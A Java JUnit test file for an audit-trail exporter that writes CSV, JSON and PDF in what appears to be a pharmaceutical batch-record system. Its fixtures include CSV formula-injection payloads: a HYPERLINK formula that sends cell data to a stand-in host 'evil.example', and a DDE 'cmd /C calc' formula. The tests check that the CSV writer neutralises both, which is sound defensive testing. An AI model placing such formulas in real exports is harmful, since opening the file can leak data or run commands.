package org.openebr.audit.control;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import jakarta.json.JsonReader;
import jakarta.json.JsonValue;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.openebr.audit.boundary.AuditAction;
import org.openebr.audit.boundary.AuditEntry;
import org.openebr.audit.boundary.AuditExportHeader;
import org.openebr.audit.boundary.AuditFilter;
import org.openebr.audit.boundary.FieldChange;
import org.openebr.recipe.boundary.RecipeRecords;

class AuditExportWriterTest {

    private static final String BERLIN = "Europe/Berlin";
    private static final Instant LOCKED_AT = Instant.parse("2026-11-25T08:12:03.123Z");
    private static final AuditFilter FILTER = new AuditFilter(null, null, null, null,
            Instant.parse("2026-11-01T00:00:00Z"), Instant.parse("2026-12-01T00:00:00Z"), null);
    private static final AuditExportHeader HEADER = new AuditExportHeader("Audit trail – aseptic filling, November 2026",
            FILTER, Instant.parse("2026-11-25T09:30:00Z"), "mmueller", "Marta Müller", BERLIN, "OpenEBR 0.1.0");
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/x?d=\"&A1,\"Details\")";

    private final AuditExportWriter writer = new AuditExportWriter();

    /** Lockout by the server, a role grant by an administrator, a training record voided by QA, a messy comment. */
    private static List<AuditEntry> fillingPlantTrail() {
        return List.of(
                new AuditEntry(1041, LOCKED_AT, BERLIN, "system", "OpenEBR server", "SYSTEM", "Test command",
                        "Locked after 5 failed sign-in attempts", "10.20.4.17", "c0ffee01-5e1f-4b7a-9d2e-000000001041",
                        "UserAccount", "17", AuditAction.CHANGED, List.of(
                        new FieldChange("status", "ACTIVE", "LOCKED"),
                        new FieldChange("failedSignIns", "4", "5"))),
                new AuditEntry(1042, LOCKED_AT.plusSeconds(95), BERLIN, "lzolc", "Łukasz Żółć", "ADMIN", "Test command",
                        "New operator for filling line 2, Grade A training complete", "ws-it-03 (10.20.8.31)",
                        "c0ffee01-5e1f-4b7a-9d2e-000000001042", "RoleGrant", "88", AuditAction.CREATED, List.of(
                        new FieldChange("account", null, "31"),
                        new FieldChange("role", null, "OPERATOR"),
                        new FieldChange("grantedBy", null, "lzolc"))),
                new AuditEntry(1043, LOCKED_AT.plusSeconds(600), BERLIN, "mmueller", "Marta Müller", "QA_REVIEWER", "Test command",
                        "Entered for the wrong person", "ws-qa-07", null, "TrainingRecord", "204", AuditAction.CHANGED,
                        List.of(new FieldChange("voided", "false", "true"),
                                new FieldChange("voidReason", null, "Entered for the wrong person"))),
                new AuditEntry(1044, LOCKED_AT.plusSeconds(900), BERLIN, "jperez", "José Pérez", "OPERATOR", "Test command",
                        "Batch 24-117, \"line 2\" clearance\r\nsecond shift", null, null, "EnvironmentalReading", "5531",
                        AuditAction.CHANGED, List.of(
                        new FieldChange("comment", "", HYPERLINK),
                        new FieldChange("pressureDifferencePa", "-12", "-15"),
                        new FieldChange("note", null, "-2+3+cmd|' /C calc'!A0"),
                        new FieldChange("tag", "@SUM(A1:A9)", "\tindented"))),
                new AuditEntry(1045, LOCKED_AT.plusSeconds(1200), BERLIN, "system", "OpenEBR server", "SYSTEM", "Test command",
                        null, null, null, "SessionRecord", "9001", AuditAction.DELETED, List.of()));
    }

    // ---- CSV ----

    @Test
    @Tag("A11D-12-4")
    void csv_has_a_header_row_and_one_row_per_field_change() throws IOException {
        List<List<String>> rows = parseCsv(csv(fillingPlantTrail()));

        assertThat(rows.get(0)).containsExactly("revision", "recorded_at_utc", "recorded_at_site", "site_zone",
                "user_name", "full_name", "acting_role", "command", "reason", "client_address", "correlation_id", "entity_type",
                "record_id", "action", "field", "old_value", "new_value");
        // 2 + 3 + 2 + 4 changes, and one row for the entry without changes
        assertThat(rows).hasSize(1 + 11 + 1);
        assertThat(rows).allSatisfy(row -> assertThat(row).hasSize(17));
        assertThat(rows.get(1)).containsExactly("1041", "2026-11-25T08:12:03.123Z",
                "2026-11-25 09:12:03 CET (Europe/Berlin)", BERLIN, "system", "OpenEBR server", "SYSTEM", "Test command",
                "Locked after 5 failed sign-in attempts", "10.20.4.17", "c0ffee01-5e1f-4b7a-9d2e-000000001041",
                "UserAccount", "17", "CHANGED", "status", "ACTIVE", "LOCKED");
        assertThat(rows.get(3)).containsSubsequence("lzolc", "Łukasz Żółć", "ADMIN")
                .endsWith("account", "", "31");
        assertThat(rows.get(rows.size() - 1)).containsExactly("1045", "2026-11-25T08:32:03.123Z",
                "2026-11-25 09:32:03 CET (Europe/Berlin)", BERLIN, "system", "OpenEBR server", "SYSTEM", "Test command",
                "", "", "", "SessionRecord", "9001", "DELETED", "", "", "");
    }

    @Test
    @Tag("A11D-12-4")
    void csv_is_utf8_with_byte_order_mark_crlf_and_quotes_commas_quotes_and_line_breaks() throws IOException {
        byte[] csv = csv(fillingPlantTrail());

        assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).contains("\"Batch 24-117, \"\"line 2\"\" clearance\r\nsecond shift\"");
        assertThat(text).contains(",\"New operator for filling line 2, Grade A training complete\",");
        assertThat(text).endsWith("\r\n");

        List<String> joseRow = parseCsv(csv).get(8);
        assertThat(joseRow.get(5)).isEqualTo("José Pérez");
        assertThat(joseRow.get(8)).isEqualTo("Batch 24-117, \"line 2\" clearance\r\nsecond shift");
    }

    @Test
    void csv_neutralises_formulas_but_keeps_plain_negative_numbers() throws IOException {
        List<List<String>> rows = parseCsv(csv(fillingPlantTrail()));
        List<String> comment = rows.get(8);
        List<String> pressure = rows.get(9);
        List<String> note = rows.get(10);
        List<String> tag = rows.get(11);

        assertThat(comment.get(16)).isEqualTo("'" + HYPERLINK);
        assertThat(pressure.subList(14, 17)).containsExactly("pressureDifferencePa", "-12", "-15");
        assertThat(note.get(16)).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(tag.subList(15, 17)).containsExactly("'@SUM(A1:A9)", "'\tindented");
    }

    // ---- JSON ----

    @Test
    @Tag("A11D-12-4")
    void json_carries_the_filter_the_export_metadata_and_every_entry_with_nulls() throws IOException {
        JsonObject json = parseJson(fillingPlantTrail());

        assertThat(json.keySet()).containsExactly("title", "filter", "exportedAt", "exportedAtSite", "exportedBy",
                "siteZone", "system", "entryCount", "entries");
        assertThat(json.getString("title")).isEqualTo(HEADER.title());
        JsonObject filter = json.getJsonObject("filter");
        assertThat(filter.getString("description")).isEqualTo(FILTER.describe());
        assertThat(filter.getString("from")).isEqualTo("2026-11-01T00:00:00.000Z");
        assertThat(filter.isNull("entityType")).isTrue();
        assertThat(filter.isNull("text")).isTrue();
        assertThat(json.getString("exportedAt")).isEqualTo("2026-11-25T09:30:00.000Z");
        assertThat(json.getString("exportedAtSite")).isEqualTo("2026-11-25 10:30:00 CET (Europe/Berlin)");
        assertThat(json.getJsonObject("exportedBy").getString("fullName")).isEqualTo("Marta Müller");
        assertThat(json.getString("system")).isEqualTo("OpenEBR 0.1.0");
        assertThat(json.getInt("entryCount")).isEqualTo(5);

        JsonArray entries = json.getJsonArray("entries");
        assertThat(entries).hasSize(5);
        JsonObject grant = entries.getJsonObject(1);
        assertThat(grant.keySet()).containsExactly("revision", "recordedAt", "recordedAtSite", "siteZone", "userName",
                "fullName", "actingRole", "command", "reason", "clientAddress", "correlationId", "entityType", "recordId",
                "recordName", "action", "changes");
        assertThat(grant.getJsonNumber("revision").longValue()).isEqualTo(1042);
        assertThat(grant.getString("fullName")).isEqualTo("Łukasz Żółć");
        assertThat(grant.getString("action")).isEqualTo("CREATED");
        JsonObject role = grant.getJsonArray("changes").getJsonObject(1);
        assertThat(role.getString("field")).isEqualTo("role");
        assertThat(role.get("old")).isEqualTo(JsonValue.NULL);
        assertThat(role.getString("new")).isEqualTo("OPERATOR");

        JsonObject messy = entries.getJsonObject(3);
        assertThat(messy.getString("reason")).isEqualTo("Batch 24-117, \"line 2\" clearance\r\nsecond shift");
        assertThat(messy.isNull("clientAddress")).isTrue();
        // the exact copy: no apostrophe, and an empty value stays empty rather than null
        assertThat(messy.getJsonArray("changes").getJsonObject(0).getString("new")).isEqualTo(HYPERLINK);
        assertThat(messy.getJsonArray("changes").getJsonObject(0).getString("old")).isEmpty();
        assertThat(entries.getJsonObject(4).getJsonArray("changes")).isEmpty();
    }

    @Test
    void json_of_an_empty_result_still_states_the_filter() throws IOException {
        JsonObject json = parseJson(List.of());

        assertThat(json.getInt("entryCount")).isZero();
        assertThat(json.getJsonArray("entries")).isEmpty();
        assertThat(json.getJsonObject("filter").getString("description")).isEqualTo(FILTER.describe());
    }

    // ---- PDF ----

    @Test
    @Tag("A11D-12-4")
    void every_pdf_page_states_title_filter_exporter_and_page_x_of_y() throws IOException {
        List<String> pages = pagesOf120Entries();

        assertThat(pages).hasSizeGreaterThan(3);
        for (int i = 0; i < pages.size(); i++) {
            String page = oneLine(pages.get(i));
            assertThat(page).contains(HEADER.title())
                    .contains("Filter: " + FILTER.describe())
                    .contains("Exported 2026-11-25T09:30:00.000Z (2026-11-25 10:30:00 CET (Europe/Berlin)) by "
                            + "Marta Müller (mmueller)")
                    .contains("Page " + (i + 1) + " of " + pages.size())
                    .contains("OpenEBR 0.1.0");
        }
    }

    @Test
    @Tag("A11D-12-4")
    void pdf_shows_every_entry_once_with_unicode_names_and_changes() throws IOException {
        List<AuditEntry> entries = manyEntries(120);
        String all = oneLine(String.join("\n", pagesOf120Entries()));

        for (AuditEntry entry : entries) {
            assertThat(all).containsOnlyOnce("Revision " + entry.revision() + " ");
        }
        assertThat(all).contains("Łukasz Żółć (lzolc) as ADMIN")
                .contains("José Pérez")
                .contains("2026-11-25 09:12:03 CET (Europe/Berlin) 2026-11-25T08:12:03.123Z Revision 1041")
                .contains("CHANGED UserAccount 17")
                .contains("Reason: Locked after 5 failed sign-in attempts")
                .contains("status: ACTIVE → LOCKED")
                .contains("comment: (empty) → " + HYPERLINK)
                .contains(PdfAuditExport.NO_CHANGES);
        // a created record lists its values, without an arrow from nothing
        assertThat(all).contains("account: 31").doesNotContain("account: (none)");
    }

    @Test
    @Tag("A11D-12-4")
    void thirteen_entries_with_recipe_saves_fit_on_two_pages_with_the_recipe_change_in_words() throws IOException {
        String recipe = demoRecipe();
        List<AuditEntry> entries = new ArrayList<>(fillingPlantTrail());
        String document = recipe;
        for (int i = 0; i < 8; i++) {
            String saved = recipe.replace("\"upper\": 45.37", "\"upper\": 45.3" + i);
            entries.add(new AuditEntry(2000 + i, LOCKED_AT.plusSeconds(3600L + i), BERLIN, "author1", "Anna Author",
                    "RECIPE_AUTHOR", "Save draft", "Upper limit after validation run " + i, "ws-qa-07", null,
                    "RecipeVersion", "7d9c2c1e-0000-4000-8000-000000000001", AuditAction.CHANGED, List.of(
                    new FieldChange("content_hash", "a1", "b" + i),
                    new FieldChange("document", document, saved)
                            .withReadable(RecipeRecords.describeChange(document, saved))),
                    "DEMOPROFEN-10-2ML version 2 (Demoprofen 10 mg/mL solution for injection)"));
            document = saved;
        }
        assertThat(entries).hasSize(13);

        List<String> pages = pdfPages(entries);
        String all = oneLine(String.join("\n", pages));

        assertThat(pages).as("13 entries, recipe saves among them, are a page or two, not 130").hasSizeLessThanOrEqualTo(2);
        assertThat(all).contains("CHANGED DEMOPROFEN-10-2ML version 2 (Demoprofen 10 mg/mL solution for injection)")
                .contains("document (the change in words; exact text in the JSON export):")
                .contains("upper action limit changed from 45.37 to 45.30")
                .contains("upper action limit changed from 45.30 to 45.31")
                .contains("content_hash: a1 → b3")
                .doesNotContain("\"unitProcedures\"");
        // the id stays beside the name (a long id may wrap inside its cell)
        assertThat(withoutWhitespace(all)).contains("RecipeVersion7d9c2c1e-0000-4000-8000-000000000001");
    }

    @Test
    void a_long_value_is_complete_wherever_a_page_break_falls_in_it() throws IOException {
        String deviation = longDeviationText();
        assertThat(deviation).hasSizeGreaterThanOrEqualTo(3000);
        boolean crossedAPage = false;
        // each routine entry before it moves the long entry down by six lines
        for (int before = 5; before <= 12; before++) {
            List<AuditEntry> entries = new ArrayList<>(manyEntries(before));
            entries.add(new AuditEntry(5000, LOCKED_AT.plusSeconds(86_400), BERLIN, "mmueller", "Marta Müller",
                    "QA_REVIEWER", "Test command", "Deviation DEV-2026-0412 description completed", "ws-qa-07", null, "Deviation",
                    "412", AuditAction.CHANGED, List.of(new FieldChange("description", null, deviation))));
            List<String> pages = pdfPages(entries);
            StringBuilder body = new StringBuilder();
            for (int i = 0; i < pages.size(); i++) {
                body.append(bodyOf(pages.get(i), i + 1, pages.size()));
            }

            assertThat(withoutWhitespace(body.toString())).contains(withoutWhitespace(deviation));
            crossedAPage |= pageWith("Observation 1:", pages) < pageWith("SHA-256:", pages);
        }
        assertThat(crossedAPage).as("the long entry was split across two pages at least once").isTrue();
    }

    @Test
    @Tag("A11D-12-4")
    void an_empty_result_is_one_page_saying_so() throws IOException {
        List<String> pages = pdfPages(List.of());

        assertThat(pages).hasSize(1);
        assertThat(pages.get(0)).contains(PdfAuditExport.NO_ENTRIES)
                .contains("Page 1 of 1")
                .contains("Filter: " + FILTER.describe());
    }

    @Test
    void characters_the_font_lacks_print_as_question_marks_instead_of_failing() throws IOException {
        AuditEntry exotic = new AuditEntry(7, LOCKED_AT, BERLIN, "tanaka", "田中 Hiro", "OPERATOR", "Test command",
                "Checked \u2713 vial 12 \uD83D\uDE00 ok\u0000", "ws-line2", null, "Vial", "12", AuditAction.CHANGED,
                List.of(new FieldChange("remark", "Jose\u0301", "ok")));

        byte[][] made = new byte[1][];
        assertThatCode(() -> made[0] = pdf(List.of(exotic))).doesNotThrowAnyException();
        String text = pagesOf(made[0]).get(0);
        assertThat(text).contains("?? Hiro").contains("vial 12 ? ok?").contains("remark: José");
    }

    @Test
    void pdf_document_information_names_the_export_its_author_and_system() throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf(fillingPlantTrail()))) {
            assertThat(document.getDocumentInformation().getTitle()).isEqualTo(HEADER.title());
            assertThat(document.getDocumentInformation().getAuthor()).isEqualTo("Marta Müller (mmueller)");
            assertThat(document.getDocumentInformation().getCreator()).isEqualTo("OpenEBR 0.1.0");
            assertThat(document.getDocumentInformation().getCreationDate().toInstant()).isEqualTo(HEADER.exportedAt());
            assertThat(document.getPage(0).getMediaBox().getWidth()).isGreaterThan(document.getPage(0).getMediaBox().getHeight());
        }
    }

    @Test
    void the_callers_stream_is_left_open() throws IOException {
        ClosingRecorder out = new ClosingRecorder();
        writer.writeCsv(fillingPlantTrail(), out);
        writer.writeJson(HEADER, fillingPlantTrail(), out);
        writer.writePdf(HEADER, fillingPlantTrail(), out);
        assertThat(out.closed).isFalse();
    }

    // ---- fixtures and readers ----

    /** The realistic entries, then routine changes, in revision order, ten minutes apart. */
    private static List<AuditEntry> manyEntries(int count) {
        List<AuditEntry> entries = new ArrayList<>(fillingPlantTrail());
        for (int i = entries.size(); i < count; i++) {
            long revision = 1041 + i;
            entries.add(new AuditEntry(revision, LOCKED_AT.plus(Duration.ofMinutes(10L * i)), BERLIN, "operator" + (i % 4),
                    "Operator " + (i % 4), "OPERATOR", "Test command", "Filling line 2: in-process weight check", "hmi-fill-02",
                    "c0ffee01-5e1f-4b7a-9d2e-00000000" + revision, "StepExecution", Long.toString(7000 + i),
                    AuditAction.CHANGED, List.of(
                    new FieldChange("fillWeightMg", "2010", Integer.toString(2000 + i)),
                    new FieldChange("status", "STARTED", "RECORDED"))));
        }
        return entries;
    }

    private static String longDeviationText() {
        StringBuilder text = new StringBuilder();
        int sentence = 1;
        while (text.length() < 2_900) {
            text.append("Observation ").append(sentence++).append(": during aseptic filling of batch 24-117 the ")
                    .append("Grade A particle counter at the stopper bowl reported 0.5 µm counts above the alert ")
                    .append("limit for 40 s; interventions were reviewed on video and no operator entered the zone. ");
        }
        // an unbroken token wider than a line must be broken inside, not cut off
        text.append("SHA-256:").append("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".repeat(3));
        return text.toString();
    }

    private static String demoRecipe() throws IOException {
        try (var in = RecipeRecords.class.getResourceAsStream("/demo/recipe-DEMOPROFEN-10-2ML.json")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private byte[] csv(List<AuditEntry> entries) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.writeCsv(entries, out);
        return out.toByteArray();
    }

    private JsonObject parseJson(List<AuditEntry> entries) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.writeJson(HEADER, entries, out);
        try (JsonReader reader = Json.createReader(new StringReader(out.toString(StandardCharsets.UTF_8)))) {
            return reader.readObject();
        }
    }

    private byte[] pdf(List<AuditEntry> entries) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.writePdf(HEADER, entries, out);
        return out.toByteArray();
    }

    /**
     * The text of the export of {@code manyEntries(120)}, page by page: made once for the tests that
     * read it (the largest export of this class, and the same for both).
     */
    private static synchronized List<String> pagesOf120Entries() throws IOException {
        if (pagesOf120 == null) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            new AuditExportWriter().writePdf(HEADER, manyEntries(120), out);
            pagesOf120 = List.copyOf(pagesOf(out.toByteArray()));
        }
        return pagesOf120;
    }

    private static List<String> pagesOf120;

    private List<String> pdfPages(List<AuditEntry> entries) throws IOException {
        return pagesOf(pdf(entries));
    }

    private static List<String> pagesOf(byte[] pdf) throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            PDFTextStripper stripper = new PDFTextStripper();
            List<String> pages = new ArrayList<>();
            for (int page = 1; page <= document.getNumberOfPages(); page++) {
                stripper.setStartPage(page);
                stripper.setEndPage(page);
                pages.add(stripper.getText(document));
            }
            return pages;
        }
    }

    private static int pageWith(String text, List<String> pages) {
        for (int i = 0; i < pages.size(); i++) {
            if (pages.get(i).contains(text)) {
                return i;
            }
        }
        return -1;
    }

    /** A page's text without the repeated header and footer lines. */
    private static String bodyOf(String page, int number, int count) {
        StringBuilder body = new StringBuilder();
        for (String line : page.split("\\R")) {
            boolean repeated = line.equals(HEADER.title()) || line.startsWith("Filter: ") || line.startsWith("When (site time")
                    || line.startsWith("Exported ") || line.contains("Page " + number + " of " + count);
            if (!repeated) {
                // the rest of a row on the next page is headed by its revision
                body.append(line.replaceAll("Revision \\d+ \\(continued\\)", "")).append('\n');
            }
        }
        return body.toString();
    }

    private static String oneLine(String text) {
        return text.replaceAll("\\s+", " ");
    }

    private static String withoutWhitespace(String text) {
        return text.replaceAll("\\s+", "");
    }

    /** RFC 4180, strictly: records end in CRLF, a bare CR or LF is only allowed inside quotes. */
    private static List<List<String>> parseCsv(byte[] bytes) {
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 1; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                assertThat(field).as("quote inside an unquoted field at %d", i).isEmpty();
                quoted = true;
            } else if (c == ',') {
                record.add(field.toString());
                field.setLength(0);
            } else if (c == '\r') {
                assertThat(text.charAt(i + 1)).as("CR without LF at %d", i).isEqualTo('\n');
                record.add(field.toString());
                field.setLength(0);
                records.add(record);
                record = new ArrayList<>();
                i++;
            } else {
                assertThat(c).as("bare LF at %d", i).isNotEqualTo('\n');
                field.append(c);
            }
        }
        assertThat(quoted).as("unterminated quote").isFalse();
        assertThat(record).as("last record without CRLF").isEmpty();
        return records;
    }

    private static final class ClosingRecorder extends ByteArrayOutputStream {
        boolean closed;

        @Override
        public void close() {
            closed = true;
        }
    }
}
